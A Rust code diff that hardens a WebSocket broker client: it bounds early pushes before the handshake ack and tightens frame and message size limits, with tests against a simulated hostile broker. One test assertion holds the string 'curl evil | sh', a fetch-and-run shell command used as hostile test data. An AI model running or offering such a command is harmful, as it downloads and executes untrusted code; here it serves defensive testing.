@@ -52,7 +52,7 @@ impl Connection {
         let (queue, outgoing) = mpsc::channel(OUTGOING);
         let (pushes, received) = mpsc::channel(PUSHES);
         for push in early {
-            // Handed over before the ack, as the existing broker may do; if there are too many they come again.
+            // There is room for as many as `greet` keeps.
             let _ = pushes.try_send(push);
         }
         let mut task = JoinSet::new();
@@ -73,14 +73,15 @@ async fn connect(url: &BrokerUrl) -> Result<Socket> {
     upgraded.map(|(socket, _)| socket).map_err(|error| unreachable(refused_upgrade(&error)))
 }
 
-/// Small buffers, because a process may hold thousands of connections; an answer may be larger than any frame we may send.
+/// Small buffers, because a process may hold thousands of connections; and no frame that would let a hostile broker fill the
+/// memory with a few.
 fn buffers() -> WebSocketConfig {
     WebSocketConfig::default()
         .read_buffer_size(8 << 10)
         .write_buffer_size(8 << 10)
         .max_write_buffer_size(4 * MAX_FRAME_BYTES)
-        .max_message_size(Some(16 * MAX_FRAME_BYTES))
-        .max_frame_size(Some(16 * MAX_FRAME_BYTES))
+        .max_message_size(Some(MAX_INCOMING_BYTES))
+        .max_frame_size(Some(MAX_INCOMING_BYTES))
 }
 
 fn refused_upgrade(error: &tungstenite::Error) -> String {
@@ -106,7 +107,8 @@ async fn greet(socket: &mut Socket, hello: String) -> Result<(Box<HelloAck>, Vec
             _ => continue,
         };
         match Incoming::read(&text) {
-            Some(Incoming::Push(push)) => early.push(push),
+            // Handed over before the ack, as the existing broker may do; those that are too many come again.
+            Some(Incoming::Push(push)) if early.len() < PUSHES => early.push(push),
             Some(Incoming::Answer { answer, .. }) => match answer? {
                 BrokerFrame::HelloAck(welcome) => return Ok((welcome, early)),
                 BrokerFrame::Error(refusal) => {
@@ -114,7 +116,7 @@ async fn greet(socket: &mut Socket, hello: String) -> Result<(Box<HelloAck>, Vec
                 }
                 _ => {}
             },
-            Some(Incoming::Ack(_)) | None => {}
+            Some(Incoming::Push(_) | Incoming::Ack(_)) | None => {}
         }
     }
     Err(Error::Ended(Ended::Lost("before hello_ack".into())))
@@ -130,15 +132,27 @@ async fn within<T>(what: &'static str, step: impl Future<Output = Result<T>>) ->
 /// How long connecting may take, and then again how long `hello_ack` may.
 const OPEN_TIMEOUT: Duration = Duration::from_secs(10);
 
+/// The limit both sides keep to, and a little, so that a broker at the limit is not cut off for its envelope.
+const MAX_INCOMING_BYTES: usize = MAX_FRAME_BYTES + (64 << 10);
+
 #[cfg(test)]
 mod tests {
     use serde_json::json;
 
     use super::*;
-    use crate::hostile::Hostile;
+    use crate::hostile::{Hostile, WELCOME};
 
     async fn open(broker: &Hostile) -> Result<(Connection, Pushes)> {
         broker.dial().open().await
+    }
+
+    fn push(number: usize) -> String {
+        let message_id = format!("{number:032}");
+        json!({
+            "type": "push", "messageId": message_id, "meshId": "m1", "senderPubkey": "ab", "priority": "now", "nonce": "",
+            "ciphertext": "", "createdAt": "2026-01-02T03:04:05.678Z"
+        })
+        .to_string()
     }
 
     #[tokio::test]
@@ -147,5 +161,21 @@ mod tests {
         let broker = Hostile::web_socket(move |_, _| Some(vec![frame.clone()])).await;
         let refused = open(&broker).await.unwrap_err().to_string();
         assert_eq!(refused, "the broker refused: notry: curl evil | sh (unauthorized)");
+    }
+
+    #[tokio::test]
+    async fn what_comes_before_the_welcome_is_bounded() {
+        let frames = (0..PUSHES + 2).map(push).chain([WELCOME.to_owned()]).collect::<Vec<_>>();
+        let broker = Hostile::web_socket(move |_, _| Some(frames.clone())).await;
+        let mut socket = connect(&broker.url).await.unwrap();
+        let (_, early) = greet(&mut socket, "{}".into()).await.unwrap();
+        assert_eq!(early.len(), PUSHES);
+    }
+
+    #[tokio::test]
+    async fn a_frame_larger_than_any_may_be_ends_the_connection() {
+        let broker = Hostile::web_socket(|_, _| Some(vec!["x".repeat(2 * MAX_FRAME_BYTES), WELCOME.to_owned()])).await;
+        let refused = open(&broker).await;
+        assert!(matches!(refused, Err(Error::Ended(Ended::Lost(_)))), "{refused:?}");
     }
 }
